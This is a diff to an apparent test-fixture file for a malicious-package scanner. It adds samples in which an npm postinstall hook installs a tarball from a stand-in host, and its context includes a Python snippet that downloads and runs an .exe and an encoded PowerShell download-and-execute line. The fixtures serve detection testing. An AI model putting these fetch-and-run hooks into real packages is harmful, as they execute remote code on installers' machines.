@@ -10,6 +10,14 @@ const ENCODED = Buffer.from('iex (iwr http://a.weir.test/p)', 'utf16le').toStrin
 export const samples: Samples = {
   malicious: [
     {
+      name: 'an archive of an address that code installs with the package manager that runs it',
+      files: {
+        'package.json': manifest({ scripts: { postinstall: 'node setup.js' } }),
+        'setup.js': `const { execFileSync } = require('child_process');\nconst source = { host: 'dl.weir.test', tag: 'stable' };\nconst spec = () => \`https://\${source.host}/own/\${source.tag}.tgz\`;\nfunction install(one) {\n  const args = ['install', '--no-save', one];\n  execFileSync(process.execPath, [process.env.npm_execpath, ...args]);\n}\ninstall(spec());\n`,
+      },
+      expected: [{ rule: 'remote-install', file: 'setup.js', line: 6, severity: 'high' }],
+    },
+    {
       name: 'Python: a line in a list of one word, and what it stored',
       files: wheel(
         "import subprocess\nclass Own:\n    subprocess.Popen(['cd C:/ && curl https://files.weir.test/a.exe -o a.exe'], shell=True)\n    subprocess.Popen(['C:/a.exe'], shell=True)\n",
@@ -281,6 +289,10 @@ export const samples: Samples = {
       'open.sh': 'if [ -n "$WSL" ]; then rundll32.exe url.dll,FileProtocolHandler "$1"; fi\n',
     }),
     quiet('counting in a shell', hooked('i=1; ((i++)); ((i = i * 2)); node -e 1')),
+    quiet('a package of the registry that code installs', {
+      'package.json': manifest({ scripts: { postinstall: 'node setup.js' } }),
+      'setup.js': `const args = ['install', '--no-save', 'own-helper@1'];\nrequire('child_process').execFileSync(process.execPath, [process.env.npm_execpath, ...args]);\n`,
+    }),
     quiet('a mirror', hooked('npm i x --registry=https://registry.weir.test')),
     quiet('a script of the Mac that tells something', {
       'package.json': manifest({ main: 'index.js' }),
